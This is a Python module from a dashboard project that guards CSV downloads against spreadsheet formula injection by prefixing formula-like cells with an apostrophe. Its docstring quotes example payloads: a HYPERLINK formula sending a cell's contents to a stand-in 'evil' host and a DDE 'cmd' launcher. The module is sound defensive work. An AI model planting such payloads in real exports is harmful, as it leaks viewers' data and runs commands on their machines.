"""What the dashboards hand to a viewer's spreadsheet: CSV downloads whose text cells cannot run as
formulas (issue 18, docs/SECURITY.md).

A cell such as `=HYPERLINK("http://evil/?"&A1, "click")`, `+cmd|' /C calc'!A0` or `@SUM(A1:A9)`
comes from the exports (an account or deal name) and Excel, LibreOffice and Sheets would evaluate
it on opening the download. Text cells starting with = + - @, a tab or a carriage return get a
leading apostrophe, which spreadsheets show as text (OWASP's advice); numbers are left alone.
"""

from __future__ import annotations

import re

import polars as pl

from revintel_resources.text import md  # noqa: F401 (the pages import it from here)

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(df: pl.DataFrame) -> pl.DataFrame:
    """Text columns with formula-like cells prefixed by an apostrophe."""
    pattern = "^[" + "".join("\\" + c if c in "-+" else c for c in FORMULA_PREFIXES) + "]"
    return df.with_columns(
        pl.when(pl.col(c).str.contains(pattern)).then(pl.lit("'") + pl.col(c)).otherwise(pl.col(c)).alias(c)
        for c, dtype in df.schema.items() if dtype == pl.String)


def csv_bytes(df: pl.DataFrame) -> bytes:
    """The frame as a CSV download, formula cells neutralised, with a UTF-8 byte-order mark: Excel opens
    a CSV without one as the machine's ANSI code page ("Müller GmbH" read "MÃ¼ller GmbH")."""
    return neutralise(df).write_csv(include_bom=True).encode()


def code(value) -> str:
    """Any value as a Markdown code span (literal, monospace), whatever backticks it holds."""
    text = " ".join(str(value).split()) if value is not None else ""
    fence = "`" * (max((len(run) for run in re.findall(r"`+", text)), default=0) + 1)
    return f"{fence} {text} {fence}"
